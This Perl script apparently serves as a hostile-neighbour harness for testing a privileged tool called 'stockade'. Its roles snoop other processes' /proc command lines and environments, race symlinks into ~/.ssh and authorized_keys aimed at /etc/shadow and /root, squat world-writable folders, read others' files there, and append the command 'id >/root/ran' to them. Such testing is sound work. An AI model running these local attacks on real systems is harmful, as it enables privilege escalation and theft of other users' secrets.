# A hostile neighbour on a host, as an unprivileged user: perl neighbour.pl FOLDER ROLE
# Until FOLDER/stop is there. What it catches goes to FOLDER/ROLE.USER.caught, how often it tried to FOLDER/ROLE.USER.count.
use strict;
my ($folder, $role) = @ARGV;
my ($user, $home) = (getpwuid $<)[0, 7];
my ($rounds, %seen) = (0);
my @targets = qw(/usr/local/bin/victim /etc/victim /root/victim /etc/shadow /nowhere);
open my $caught, ">>", "$folder/$role.$user.caught" or die;
select((select($caught), $| = 1)[0]);
sub pause { select undef, undef, undef, $_[0] }
sub caught { my $what = shift; print $caught "$what\n" unless $seen{$what}++ }
sub ended {
    return 0 unless -e "$folder/stop";
    open my $count, ">", "$folder/$role.$user.count"; print $count "$rounds\n"; exit
}
sub slurp { open(my $f, "<", $_[0]) or return ""; sysread $f, my $c, 100_000; $c // "" }

sub looked_at { # what anybody may read of a process
    for my $file ("/proc/$_[0]/cmdline", "/proc/$_[0]/environ") {
        my $text = slurp($file); $text =~ tr/\0\n/ \t/; caught("$file: $text" =~ s{^/proc/\d+/}{}r) if length $text;
    }
    $rounds++;
}
sub watch { # new processes in a tight loop, all of them now and then
    while (1) {
        ended();
        my $newest = (split " ", slurp("/proc/loadavg"))[4];
        looked_at($_) for $newest - 3 .. $newest + 4;
        if ($rounds % 40 == 0) { opendir my $d, "/proc"; looked_at($_) for grep /^\d+$/, readdir $d }
    }
}
sub swapped { # NAME, beside: a link in its place, and soon the real one again
    my ($name, $aside, $time) = @_;
    my $target = $targets[$rounds++ % @targets];
    return unless rename $name, $aside;
    symlink $target, ".x$$" and rename ".x$$", $name;
    pause($time);
    unlink $name if -l $name;
    if (-e $name || -l $name) { unlink $aside unless -d $aside } else { rename $aside, $name }
}
sub state { join " ", (lstat "$_[0]")[1, 2, 4, 9, 10] }
sub swap { # at once where something was changed in there, and every now and then
    chdir $home or die;
    my ($keys, $was, $waited) = (".ssh/authorized_keys", "", 0);
    while (1) {
        ended();
        my $now = state($keys) . state(".ssh");
        if ($now ne $was || ++$waited % 400 == 0) {
            for (1 .. ($now ne $was ? 12 : 1)) {
                swapped($keys, ".keys-aside", 0.001);
                swapped(".ssh", ".ssh-aside", 0.001);
            }
            $was = state($keys) . state(".ssh");
        }
        pause(0.0007);
    }
}
sub squat { # in folders that all may write to: take what root puts there, or its place
    my @shared = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock");
    for my $shared (@shared) {
        symlink "/etc/victim", "$shared/$_" for qw(stockade stockade-sshd .stockade.rules stockade-guard);
        mkdir "$shared/stockade-trial", 0777;
    }
    while (1) {
        ended();
        for my $shared (@shared) {
            opendir my $d, $shared or next;
            for my $name (grep !/^\.\.?$/, readdir $d) {
                my $path = "$shared/$name";
                my @facts = lstat $path or next;
                next if $facts[4] == $<;
                $rounds++;
                if (-f _) { my $text = slurp($path); caught("$path: $text") if length $text }
                if (-f $path && open my $f, ">>", $path) { print $f "id >/root/ran\n" }
                rename $path, "$shared/.mine" and symlink "/etc/victim", $path;
                unlink $path;
            }
        }
        pause(0.0005);
    }
}
{ no strict "refs"; &$role() }
